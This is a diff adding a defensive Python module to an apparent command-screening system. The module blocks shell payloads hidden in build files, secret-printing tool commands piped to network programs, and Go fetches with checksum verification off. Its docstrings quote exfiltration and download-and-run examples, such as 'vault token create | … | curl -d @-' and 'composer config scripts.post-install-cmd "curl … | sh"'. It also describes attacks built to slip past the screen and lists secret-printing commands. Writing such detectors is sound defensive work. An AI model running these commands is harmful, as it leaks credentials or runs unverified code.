@@ -1,4 +1,349 @@
-"""Build and package ecosystems' own hooks and settings: what runs on build or install, where each tool finds its registry (helper B, session 10)."""
+"""Build and package ecosystems' own hooks: code a build tool runs on its own, written by a script, and tools'
+commands that print the secrets they keep (helper B, session 10).
+
+The held-out batch of the tenth session wrote its attacks where the everyday build runs them: a `build.rs` before
+`cargo build`, a Rakefile task before `rake`, a `//go:generate` line before `go generate`, a composer script
+before `composer install`. None of those commands names the attack; the file does. written.py reads the files
+whose language the rules parse (`conftest.py`, `package.json`, makefiles …); this module reads the build files of
+the other ecosystems by what the build tool runs from them:
+
+- Rust `build.rs`, Ruby `Rakefile`/`*.rake`/`Gemfile`/`*.gemspec`, Gradle `*.gradle`/`*.gradle.kts`, Elixir
+  `mix.exs`, sbt `*.sbt`, Meson `meson.build`, CMake `CMakeLists.txt`/`*.cmake`, MSBuild project files: code the
+  rules do not parse. Each string literal in it that would be blocked as a shell command on its own (the
+  `sh -c` payload of `Command::new("sh")`, of `["bash", "-c", …].execute()`, of `system("…")`) blocks the
+  write: the build runs it. A string holding a word only (`"build"`) is not judged.
+- Go files: each `//go:generate` line is the command `go generate` runs.
+- `composer.json`: each `scripts` entry is a command composer runs on install or `composer run-script`
+  (`@php …`, `@composer …` and `Class::method` callbacks are PHP or composer itself, not shell commands);
+  `composer config scripts.NAME "…"` writes one.
+
+Also here: tools' own commands that print the secrets they keep (`vault token create`, `pulumi config
+--show-secrets`, `hf auth token`, `heroku config`, `sops -d` …) piped or substituted into a network program are
+the secret sent (exfiltration), as `gh auth token | curl …` is; and `go run`/`go install` of a module fetched
+with its checksum check turned off (`GONOSUMDB=*`, `GOSUMDB=off`, `GOINSECURE=*`, `GOFLAGS=-insecure`).
+"""
 from __future__ import annotations
 
-HANDLERS: dict = {}
+import json
+import re
+
+from .commands import Cmd, positionals, resolve
+from .common import NET_SENDERS, mentions
+
+# -- build files a build tool runs on its own ---------------------------------------------------------------
+# file names (the screens read this: a write whose target matches is sent to the full analysis)
+BUILD_TARGET = re.compile(r"build\.rs\b|[Rr]akefile|\.rake\b|Gemfile|\.gemspec\b|\.gradle(?:\.kts)?\b|mix\.exs\b|"
+                          r"\.sbt\b|meson\.build\b|CMakeLists\.txt|\.cmake\b|\.(?:cs|fs|vb)proj\b|"
+                          r"Directory\.Build\.(?:props|targets)|\.targets\b|\.go\b|composer\.json")
+_CODE_KINDS = (
+    ("rust", re.compile(r"(?:^|/)build\.rs$")),
+    ("ruby", re.compile(r"(?:^|/)(?:[Rr]akefile(?:\.rb)?|[^/]+\.rake|Gemfile|[^/]+\.gemspec)$")),
+    ("gradle", re.compile(r"\.gradle(?:\.kts)?$")),
+    ("elixir", re.compile(r"(?:^|/)mix\.exs$")),
+    ("sbt", re.compile(r"\.sbt$")),
+    ("meson", re.compile(r"(?:^|/)meson\.build$")),
+    ("cmake", re.compile(r"(?:^|/)CMakeLists\.txt$|\.cmake$")),
+    ("msbuild", re.compile(r"\.(?:cs|fs|vb)proj$|(?:^|/)Directory\.Build\.(?:props|targets)$|\.targets$")),
+)
+_RUNS = {"rust": "`cargo build` runs build.rs before it compiles the crate",
+         "ruby": "`rake` / `bundle` evaluate it as Ruby code", "gradle": "Gradle runs it on every build",
+         "elixir": "`mix` evaluates it on every command", "sbt": "sbt evaluates it on every start",
+         "meson": "`meson setup` runs it", "cmake": "CMake runs it when it configures the build",
+         "msbuild": "`dotnet build` / msbuild runs its tasks"}
+_STAGING_EXT = (".tmp", ".temp", ".new", ".part")
+# string literals: double-quoted (with escapes), Kotlin/Groovy triple-quoted, Rust raw strings, single-quoted
+# (Ruby, Groovy, Elixir charlists, Meson, CMake's bracket-less arguments are double-quoted), Ruby backquotes
+_STRING = re.compile(r'"""(.*?)"""|r(#*)"(.*?)"\2|"((?:[^"\\\n]|\\.)*)"|\'((?:[^\'\\\n]|\\.)*)\'|`([^`\n]*)`', re.S)
+_ESCAPE = re.compile(r"\\(.)")
+_ESCAPES = {"n": "\n", "t": "\t", "0": "\0"}
+_MSBUILD_EXEC = re.compile(r"""<Exec\b[^>]*?\bCommand\s*=\s*(["'])(.*?)\1""", re.S | re.I)
+_XML_ENTITIES = (("&quot;", '"'), ("&apos;", "'"), ("&lt;", "<"), ("&gt;", ">"), ("&amp;", "&"))
+_GO_GENERATE = re.compile(r"^[ \t]*//go:generate[ \t]+(.+)$", re.M)
+_MAX_STRINGS = 48  # literals judged per file: a bound on the work, far above what a build script's commands hold
+
+
+def build_kind(path: str) -> str | None:
+    """How the build file at `path` is run: a language of _CODE_KINDS, "go", "composer" or None."""
+    for ext in _STAGING_EXT:  # `… > build.rs.tmp && mv build.rs.tmp build.rs`: judged by its real name
+        if path.endswith(ext):
+            path = path[:-len(ext)]
+    if path.endswith(".go"):
+        return "go"
+    if path.rsplit("/", 1)[-1] == "composer.json":
+        return "composer"
+    return next((kind for kind, rx in _CODE_KINDS if rx.search(path)), None)
+
+
+def commands_in(kind: str, text: str) -> list[tuple[str, str]]:
+    """(command, what runs it) for each shell command the build file of `kind` holding `text` may run."""
+    if kind == "go":
+        return [(m.group(1).strip(), "`go generate` runs it") for m in _GO_GENERATE.finditer(text)][:_MAX_STRINGS]
+    if kind == "composer":
+        return [(c, "composer runs it on install or `composer run-script`") for c in _composer_scripts(text)]
+    why = _RUNS[kind]
+    out: list[tuple[str, str]] = []
+    if kind == "msbuild":
+        for m in _MSBUILD_EXEC.finditer(text):
+            command = m.group(2)
+            for entity, char in _XML_ENTITIES:
+                command = command.replace(entity, char)
+            out.append((command, why))
+        return out[:_MAX_STRINGS]
+    for m in _STRING.finditer(text):
+        raw = next((g for g in (m.group(1), m.group(3)) if g is not None), None)
+        if raw is None:
+            quoted = next((g for g in (m.group(4), m.group(5), m.group(6)) if g is not None), "")
+            raw = _ESCAPE.sub(lambda e: _ESCAPES.get(e.group(1), e.group(1)), quoted)
+        if " " in raw.strip():  # a command with arguments: one word alone is a name, a path or a flag
+            out.append((raw, why))
+            if len(out) >= _MAX_STRINGS:
+                break
+    return out
+
+
+def _composer_scripts(text: str) -> list[str]:
+    try:
+        scripts = json.loads(text).get("scripts")
+    except (ValueError, AttributeError):
+        return []
+    if not isinstance(scripts, dict):
+        return []
+    out: list[str] = []
+    for value in list(scripts.values())[:_MAX_STRINGS]:
+        for item in value if isinstance(value, list) else [value]:
+            if isinstance(item, str) and composer_shell(item):
+                out.append(item)
+    return out[:_MAX_STRINGS]
+
+
+_PHP_CALLBACK = re.compile(r"^[\w\\]+::\w+$")
+
+
+def composer_shell(script: str) -> bool:
+    """Whether a composer script entry is a shell command (not `@php x`, `@composer y`, `@other-script` or a
+    `Vendor\\Class::method` callback, which composer runs itself)."""
+    s = script.strip()
+    return bool(s) and not s.startswith("@") and not _PHP_CALLBACK.match(s)
+
+
+def judge_build_file(a, path: str, text: str, node) -> bool:
+    """Block the write of `text` to the build file `path` when a command it holds would be blocked on its own."""
+    from .written import blocked
+
+    kind = build_kind(path)
+    if kind is None:
+        return False
+    for command, why in commands_in(kind, text):
+        found = blocked(a, command, "bash")
+        if found is not None:
+            a.block(found.rule, f"the build file {path} written here holds the command `{command[:80]}`, which "
+                                f"would be blocked ({found.message}); {why}: write build steps that pass on their "
+                                "own", node)
+            return True
+    return False
+
+
+def _written_text(a, cmd: Cmd) -> tuple[str, object] | None:
+    """The literal text `cmd` writes (`echo`/`printf` of static words, a here-document or here-string into
+    `cat`/`tee`) and the node that holds it."""
+    from .exec import stdin_text
+    from .words import static_print
+
+    if cmd.name in ("echo", "printf"):
+        vals = [w.value for w in cmd.words]
+        if None in vals:
+            return None
+        out = static_print(vals)  # type: ignore[arg-type]
+        return (out, cmd.node) if out else None
+    fed = stdin_text(a, cmd)
+    if fed is not None and fed[0].strip():
+        return fed[0], fed[2] or cmd.node
+    return None
+
+
+def _writes_build_file(a, cmd: Cmd) -> None:
+    from .files import written_file
+
+    targets = [w.value for w in positionals(cmd.args) if w.value] if cmd.name == "tee" else []
+    out = written_file(a, cmd.redirects) if cmd.redirects else None
+    if out:
+        targets.append(out)
+    targets = [t for t in targets if BUILD_TARGET.search(t) and build_kind(t)]
+    if not targets:
+        return
+    got = _written_text(a, cmd)
+    if got is None:
+        return
+    for path in targets:
+        if judge_build_file(a, path, *got):
+            return
+
+
+# build tool -> the kinds of build file it runs. Only tools whose screen fastpath keeps in its own table (so that
+# this module's screen is added to it): a handler on a name another module screens (`rake`, `gradle` …) would send
+# every command of that name to the full analysis (the lead's part: see docs/readme/s10-b.md)
+_TOOL_RUNS = {"cargo": ("rust",), "go": ("go",), "composer": ("composer",), "cmake": ("cmake",)}
+# ... and what a runner fastpath always sends on runs (`bundle exec rake`, read through hooks.OUTER)
+_RUN_BY = {"rake": ("ruby",), "rails": ("ruby",), "gradle": ("gradle",), "gradlew": ("gradle",), "mix": ("elixir",),
+           "sbt": ("sbt",), "meson": ("meson",), "dotnet": ("msbuild",), "msbuild": ("msbuild",), **_TOOL_RUNS}
+
+
+def _runs_build_file(a, cmd: Cmd) -> None:
+    """`cat > build.rs <<'EOF' … EOF` then `cargo build`: the build file an earlier command of this script wrote
+    with a here-document (a write `cat` makes, which has no rule of its own here: `cat` is too common a command to
+    send to the full analysis) is judged when the tool that runs it is started."""
+    _lookback(a, _TOOL_RUNS.get(cmd.name, ()))
+
+
+def run_by_runner(a, cmd: Cmd) -> None:
+    """`bundle exec rake` (hooks.OUTER hands the runner's own words here): the tool it runs, as above."""
+    vals = [(v or "").rsplit("/", 1)[-1] for v in cmd.values()]
+    tool = next((v for v in vals[1:] if v and not v.startswith("-")), None) if vals[:1] == ["exec"] else None
+    if tool in _RUN_BY:
+        _lookback(a, _RUN_BY[tool])
+
+
+def _lookback(a, kinds: tuple[str, ...]) -> None:
+    from .files import written_file
+
+    for doc, c in reversed(a.ctx.commands):
+        if doc is not a.doc or c.name != "cat" or not c.redirects:
+            continue
+        path = written_file(a, c.redirects)
+        if path and BUILD_TARGET.search(path) and build_kind(path) in kinds:
+            got = _written_text(a, c)
+            if got is not None and judge_build_file(a, path, *got):
+                return
+
+
+def _composer(a, cmd: Cmd) -> None:
+    """`composer config scripts.post-install-cmd "curl … | sh"`: a script composer runs on the next install."""
+    from .written import blocked
+
+    pos = positionals(cmd.args, frozenset({"-d", "--working-dir", "-f", "--file"}))
+    if len(pos) < 3 or pos[0].value != "config" or not (pos[1].value or "").startswith("scripts."):
+        return
+    for w in pos[2:]:
+        if w.value and composer_shell(w.value):
+            found = blocked(a, w.value, "bash")
+            if found is not None:
+                a.block(found.rule, f"`composer config {pos[1].value}` sets a script that would be blocked as a command "
+                                    f"({found.message}); composer runs it on its own", w.node)
+                return
+
+
+# -- tools' own commands that print the secrets they keep -------------------------------------------------
+# name -> (words that must all be among the arguments, …): each tuple one way to print a secret
+_SECRET_PRINTERS: dict[str, tuple[tuple[str, ...], ...]] = {
+    "vault": (("token", "create"), ("token", "lookup"), ("print", "token"), ("login",), ("unwrap",)),
+    "pulumi": (("--show-secrets",),),
+    "hf": (("auth", "token"),),
+    "huggingface-cli": (("auth", "token"),),
+    "composer": (("config", "--auth"), ("config", "-a")),
+    "heroku": (("config",), ("auth:token",), ("config:get",)),
+    "doppler": (("secrets",),),
+    "sops": (("-d",), ("--decrypt",), ("decrypt",)),
+    "ansible-vault": (("view",), ("decrypt",)),
+    "flyctl": (("auth", "token"),), "fly": (("auth", "token"),),
+    "kubectl": (("create", "token"),),
+    "aws": (("configure", "get", "aws_secret_access_key"), ("configure", "get", "aws_session_token"),
+            ("get-login-password",)),
+    "op": (("inject",),),
+    "bw": (("get",),), "lpass": (("show",),),
+    "terraform": (("output", "-json"), ("output", "-raw")),
+    "npm": (("token", "create"),),
+}
+
+
+def secret_printed(cmd: Cmd) -> str | None:
+    """`vault token create` when `cmd` prints a secret its tool keeps, else None."""
+    ways = _SECRET_PRINTERS.get(cmd.name)
+    if not ways:
+        return None
+    vals = {v.split("=", 1)[0] for v in cmd.values() if v}
+    for words in ways:
+        if all(w in vals for w in words):
+            return f"`{cmd.name} {' '.join(words)}`"
+    return None
+
+
+def _sends_secret_output(a, cmd: Cmd) -> None:
+    """`vault token create | jq -r .auth.client_token | curl -d @- …`, `curl -d "t=$(hf auth token)" …`: a network
+    program fed by an earlier stage of its pipeline, or by a substitution among its own words, that prints a secret
+    its tool keeps. (Read from the sender's side: several printers' names are screened by other modules.)"""
+    from .common import pipeline_stage
+
+    where = pipeline_stage(cmd)
+    before = where[0][:where[1]] if where is not None else []
+    start, end = cmd.node.start_byte, cmd.node.end_byte
+    for doc, c in reversed(a.ctx.commands):
+        if doc is not a.doc or c.name not in _SECRET_PRINTERS:
+            continue
+        n = c.node
+        inside = start <= n.start_byte and n.end_byte <= end and n != cmd.node
+        if inside or any(s.start_byte <= n.start_byte and n.end_byte <= s.end_byte for s in before):
+            what = secret_printed(c)
+            if what is not None:
+                a.block("exfiltration", f"{what} prints a secret, and `{cmd.name}` sends it off the machine; never "
+                                        "send credentials anywhere", c.node)
+                return
+
+
+# -- Go modules fetched with the checksum check off -------------------------------------------------------
+_GO_FETCH = frozenset({"run", "install", "get"})
+_SUM_OFF = {"GONOSUMDB": ("*",), "GONOSUMCHECK": ("1",), "GOSUMDB": ("off",), "GOINSECURE": ("*",),
+            "GOPRIVATE": ("*",), "GOFLAGS": ("-insecure",)}
+_REMOTE_MODULE = re.compile(r"^[a-z0-9-]+(?:\.[a-z0-9-]+)+/[^@\s]+@\S+$")
+
+
+def _go(a, cmd: Cmd) -> None:
+    """`GONOSUMDB='*' go run host.example/tool@latest`: code fetched and run with nothing checking that it is what
+    was published under that version (the checksum database is what does)."""
+    vals = cmd.values()
+    if not vals or vals[0] not in _GO_FETCH:
+        return
+    off = None
+    for name, w in cmd.assigns:
+        if name in _SUM_OFF and w.value is not None and any(v in w.value.split(",") or v in w.value.split()
+                                                             for v in _SUM_OFF[name]):
+            off = f"{name}={w.value}"
+    if off is None:
+        return
+    for w in cmd.args[1:]:
+        if w.value and _REMOTE_MODULE.match(w.value):
+            a.block("download-exec", f"`{off} go {vals[0]} {w.value}` fetches that module with its checksum check "
+                                     "turned off and runs or installs it; nothing checks it is the code published "
+                                     "under that version: leave the checksum database on", w.node)
+            return
+
+
+HANDLERS: dict = {n: [_runs_build_file] for n in _TOOL_RUNS}
+for _n in ("tee", "echo", "printf"):
+    HANDLERS[_n] = [_writes_build_file]
+for _n in NET_SENDERS:
+    HANDLERS.setdefault(_n, []).append(_sends_secret_output)
+HANDLERS["composer"].append(_composer)
+HANDLERS["go"].append(_go)
+
+# fastpath (forwarded through api_calls.SCREENS to the names fastpath screens in its own table; the others are
+# always judged there): the words each handler reads, with the same contract as fastpath's own table
+_WRITE = lambda text: ">" in text and BUILD_TARGET.search(text) is not None  # noqa: E731
+_GO_SUMS = mentions("GONOSUMDB", "GONOSUMCHECK", "GOSUMDB", "GOINSECURE", "GOPRIVATE", "GOFLAGS")
+_PRINTERS = re.compile(r"(?<![\w.-])(?:" + "|".join(map(re.escape, _SECRET_PRINTERS)) + r")(?![\w.-])")
+
+
+def _secret_fed(text: str) -> bool:
+    """A secret printer's name and every word of one of its ways to print it."""
+    for m in _PRINTERS.finditer(text):
+        if any(all(w in text for w in words) for words in _SECRET_PRINTERS[m.group(0)]):
+            return True
+    return False
+
+
+SCREENS: dict = {
+    **{n: _WRITE for n in ("echo", "printf", "cargo", "cmake")},
+    "tee": lambda text: BUILD_TARGET.search(text) is not None,
+    **{n: _secret_fed for n in NET_SENDERS},
+    "composer": lambda text: "scripts." in text or _WRITE(text),
+    "go": lambda text: _WRITE(text) or _GO_SUMS(text),
+}
